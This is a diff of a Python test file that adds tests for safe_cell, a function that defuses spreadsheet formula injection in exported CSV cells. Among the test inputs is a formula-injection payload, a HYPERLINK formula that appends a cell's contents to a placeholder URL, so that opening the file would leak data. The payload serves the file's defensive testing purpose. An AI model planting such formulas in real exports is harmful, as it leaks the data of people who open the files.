@@ -17,7 +17,7 @@ import duckdb
 import polars as pl
 import pytest
 
-from jobs.console.result_files import Format
+from jobs.console.result_files import Format, safe_cell
 from jobs.query import Rows, command, export_rows, print_table, run_query, save_rows
 from monitor import ROOT
 from monitor.database.connection import Database
@@ -228,6 +228,21 @@ def test_cells_that_a_spreadsheet_would_calculate_begin_with_an_apostrophe(db: P
     assert (tmp_path / "a.csv").read_text() == safe
     wide = "SELECT unnest(['\uff1d1', '\uff0b1', '\uff0d1', '\uff20x', '\uff081']) AS a"
     assert written(db, wide, Format.CSV) == "a\n'\uff1d1\n'\uff0b1\n'\uff0d1\n'\uff20x\n\uff081\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ('hi;=HYPERLINK("http://x/?"&A1)', 'hi;\'=HYPERLINK("http://x/?"&A1)'),
+        ("a;=HYPERLINK(1)", "a;'=HYPERLINK(1)"),
+        ("\t=1+1", "'\t'=1+1"),
+        ("a\n=1\r\n@x", "a\n'=1\r\n'@x"),
+        ('a; "=1"|\uff1d1;;-1', "a; \"'=1\"|'\uff1d1;;'-1"),
+        ("a-b; c=d, e@f.org", "a-b; c=d, e@f.org"),
+    ],
+)
+def test_a_part_of_a_cell_that_a_spreadsheet_may_split_off_is_no_formula(text: str, safe: str) -> None:
+    assert safe_cell(text) == safe
 
 
 def test_results_go_into_files_as_their_endings_say(db: Path, tmp_path: Path) -> None:
